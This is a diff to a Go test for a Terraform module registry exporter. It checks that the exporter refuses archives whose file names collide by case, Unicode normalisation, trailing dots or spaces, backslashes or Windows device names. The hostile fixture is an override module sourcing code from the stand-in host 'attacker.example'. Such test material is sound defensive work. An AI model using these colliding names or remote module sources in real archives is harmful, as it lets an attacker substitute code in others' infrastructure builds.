@@ -106,28 +106,25 @@ func TestHostileFoldingNames(t *testing.T) {
 	w := newExportWorld(t)
 	const override = "module \"x\" {\n  source = \"git::https://attacker.example/evil.git\"\n}\n"
 	good := "module \"net\" {\n  source = \"./Modules/net\"\n}\n"
+	e := func(name, body string) registrytest.Entry { return registrytest.Entry{Name: name, Body: body} }
 	archives := []struct {
 		name    string
-		entries map[string]string
+		entries []registrytest.Entry // in archive order: the later one is named as the entry
 		want    []string
 	}{
-		{"case", map[string]string{"main.tf": good, "Modules/net/main.tf": "# net\n", "modules/net/override.tf": override},
+		{"case", []registrytest.Entry{e("main.tf", good), e("Modules/net/main.tf", "# net\n"), e("modules/net/override.tf", override)},
 			[]string{`"Modules"`, `"modules"`, `"modules/net/override.tf"`, "differ only in case"}},
-		{"nfd", map[string]string{"main.tf": "# m\n", "caf\u00e9.tf": "# nfc\n", "cafe\u0301.tf": override},
+		{"nfd", []registrytest.Entry{e("main.tf", "# m\n"), e("caf\u00e9.tf", "# nfc\n"), e("cafe\u0301.tf", override)},
 			[]string{"caf\u00e9.tf", "cafe\u0301.tf", "normalization"}},
-		{"trailing space", map[string]string{"main.tf": "# m\n", "evil.tf ": override}, []string{`"evil.tf "`, "trailing dots and spaces"}},
-		{"trailing dot", map[string]string{"main.tf": "# m\n", "evil.tf.": override}, []string{`"evil.tf."`, "trailing dots and spaces"}},
-		{"backslash", map[string]string{"main.tf": "# m\n", `modules\net\override.tf`: override}, []string{`modules\\net\\override.tf`, "backslash"}},
-		{"device", map[string]string{"main.tf": "# m\n", "CON.tf": override}, []string{`"CON.tf"`, "device name"}},
+		{"trailing space", []registrytest.Entry{e("main.tf", "# m\n"), e("evil.tf ", override)}, []string{`"evil.tf "`, "trailing dots and spaces"}},
+		{"trailing dot", []registrytest.Entry{e("main.tf", "# m\n"), e("evil.tf.", override)}, []string{`"evil.tf."`, "trailing dots and spaces"}},
+		{"backslash", []registrytest.Entry{e("main.tf", "# m\n"), e(`modules\net\override.tf`, override)}, []string{`modules\\net\\override.tf`, "backslash"}},
+		{"device", []registrytest.Entry{e("main.tf", "# m\n"), e("CON.tf", override)}, []string{`"CON.tf"`, "device name"}},
 	}
 	for _, a := range archives {
 		t.Run("archive/"+a.name, func(t *testing.T) {
-			var es []registrytest.Entry
-			for n, body := range a.entries {
-				es = append(es, registrytest.Entry{Name: n, Body: body})
-			}
 			name := strings.ReplaceAll(a.name, " ", "-")
-			w.in.AddModule("registry.terraform.io", "evil", name, "aws", "1.0.0", w.in.AddRawArchive(t, name+".tar.gz", registrytest.TarGz(t, es)))
+			w.in.AddModule("registry.terraform.io", "evil", name, "aws", "1.0.0", w.in.AddRawArchive(t, name+".tar.gz", registrytest.TarGz(t, a.entries)))
 			out, _, err := w.export(t, "evil/"+name+"/aws")
 			checkRefused(t, out, err, a.want)
 		})
